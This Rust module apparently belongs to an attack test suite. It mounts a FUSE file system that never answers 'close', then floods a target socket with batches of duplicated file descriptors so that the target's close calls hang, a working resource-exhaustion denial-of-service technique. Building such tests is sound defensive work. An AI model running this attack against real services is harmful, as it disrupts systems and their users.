//! Sends a file of a FUSE file system whose `close` is never answered: `fuse DEVICE FOLDER COUNT`,
//! which starts `fuse-file FOLDER COUNT` as the process that has the file open.

use std::convert::Infallible;
use std::os::fd::AsRawFd;
use std::path::Path;
use std::process::Command;

use nlx_tests::attack::fuse::{enter_namespaces, mount_at, open_in};

use crate::descriptors::Sender;
use crate::{Target, hold, number};

/// Descriptors per connection, and per packet.
const BATCH: usize = 500;
const EACH: usize = 100;

pub(crate) fn attack(target: &Target, args: &[&str]) -> Result<Infallible, String> {
    let [device, folder, count] = *args else {
        return Err("DEVICE FOLDER COUNT are missing".into());
    };
    serve_for(target, "fuse-file", [device, folder], &[count])
}

/// Mounts the file system through this device at this folder, and serves it for another process
/// with the attack `name FOLDER MORE…`.
pub(crate) fn serve_for(
    target: &Target,
    name: &str,
    [device, folder]: [&str; 2],
    more: &[&str],
) -> Result<Infallible, String> {
    enter_namespaces().map_err(|error| format!("no namespaces: {error}"))?;
    mount_at(Path::new(folder), Path::new(device)).map_err(|error| format!("cannot mount: {error}"))?;
    let program = std::env::current_exe().map_err(|error| error.to_string())?;
    let address = target.address.to_string();
    let mut command = Command::new(program);
    command.arg(name).arg(&target.socket).args([&address, folder]).args(more);
    let ended = command.status().map_err(|error| format!("no process for the file: {error}"))?;
    Err(format!("the process with the file has ended: {ended}"))
}

pub(crate) fn send_file(target: &Target, args: &[&str]) -> Result<Infallible, String> {
    let [folder, count] = *args else { return Err("FOLDER COUNT are missing".into()) };
    let count: usize = number(count)?;
    let file = open_in(Path::new(folder)).map_err(|error| format!("cannot open: {error}"))?;
    let mut sender = Sender::new(target);
    let mut sent = 0;
    // Each close of a descriptor is a request to the file system, not only the last.
    while sent < count && !sender.is_refused() {
        let batch = BATCH.min(count - sent);
        sender.send(vec![file.as_raw_fd(); batch], EACH);
        sent += batch;
    }
    hold(&format!("{sent} descriptors in {} packets", sender.packets))
}
